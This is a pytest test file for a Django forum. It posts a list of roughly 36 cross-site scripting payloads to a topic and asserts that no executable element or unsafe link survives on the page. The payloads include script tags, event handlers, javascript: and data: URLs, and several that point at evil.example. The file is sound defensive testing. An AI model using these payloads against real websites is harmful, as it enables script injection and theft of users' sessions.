"""Hostile Markdown and HTML in a post, shown through the real topic page: nothing that could
run reaches the page, whoever wrote it and however it was dressed up."""

import re
from html.parser import HTMLParser

import pytest
from django.urls import reverse

from discussions import services
from members.models import User
from tests.discussions.support import a_space, signed_in
from tests.factories import MemberFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<body onload=alert(1)>",
    '<a href="#" onclick="alert(1)">click</a>',
    '<div onmouseover="alert(1)">hover</div>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![tracker](https://evil.example/pixel.png)",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="https://evil.example"><input name=x></form>',
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="behavior:url(x.htc)">ie</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '[link](https://example.org "title\\" onmouseover=\\"alert(1)")',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "<!-- <script>alert(1)</script> -->",
    "<scr<script>ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '"><script>alert(1)</script>',
    "{{ request.user.password }}{% debug %}",
]

# The only elements a post may hold (the page's own card markup around it included), and where a
# link may lead.
SAFE_TAGS = {
    "article", "div", "h2", "h3", "h4", "p", "br", "hr", "ul", "ol", "li", "em", "strong",
    "a", "blockquote", "code", "pre", "span",
}  # fmt: skip
SAFE_LINK = re.compile(r"^(https?://|mailto:|/|#)", re.I)


class Elements(HTMLParser):
    """Every element and attribute a browser would build from the HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def unsafe_parts(html: str) -> list[str]:
    parser = Elements()
    parser.feed(html)
    problems = []
    for tag, attrs in parser.found:
        if tag not in SAFE_TAGS:
            problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "src", "srcdoc", "formaction"}:
                problems.append(f"<{tag} {name}>")
            if name == "href" and not SAFE_LINK.match((value or "").strip()):
                problems.append(f"<{tag} href={value!r}>")
    return problems


def post_html(page: str) -> str:
    """The posts part of the page: the site's own scripts (with their nonces) are not in it."""
    start = page.index('<article class="nhsuk-card"')
    end = page.index("</article>", page.rindex('<article class="nhsuk-card"'))
    return page[start:end]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_executable_reaches_the_topic_page(member: User, payload: str) -> None:
    space = a_space()
    topic = services.start_topic(author=member, space=space, title=payload[:200], body=payload)
    services.reply(author=member, topic=topic, body=f"Quoting:\n\n> {payload}\n\n- {payload}")
    # Read by another member, so that the page holds no forms of its own among the posts.
    response = signed_in(MemberFactory()).get(reverse("discussions:topic", args=[topic.pk]))
    assert response.status_code == 200
    html = post_html(response.content.decode())
    assert unsafe_parts(html) == [], html
    # The page's policy forbids inline script it did not write.
    policy = response["Content-Security-Policy"]
    assert "'unsafe-inline'" not in policy.split("script-src", 1)[1].split(";", 1)[0]
    assert "nonce-" in policy


def test_links_are_kept_and_marked_for_search_engines(member: User) -> None:
    topic = services.start_topic(
        author=member, space=a_space(), title="Useful", body="[NHS](https://www.nhs.uk)"
    )
    page = signed_in(member).get(reverse("discussions:topic", args=[topic.pk])).content.decode()
    assert '<a href="https://www.nhs.uk" rel="nofollow noopener">NHS</a>' in page


def test_the_check_itself_sees_what_would_run() -> None:
    # A control: the check above must catch each kind of thing it is there to keep out.
    assert unsafe_parts(
        '<script></script><a href="javascript:x" onclick="y">a</a><p style="x">b</p>'
        '<img src="data:x"><svg onload="z"></svg>'
    ) == [
        "<script>",
        "<a href='javascript:x'>",
        "<a onclick>",
        "<p style>",
        "<img>",
        "<img src>",
        "<svg>",
        "<svg onload>",
    ]
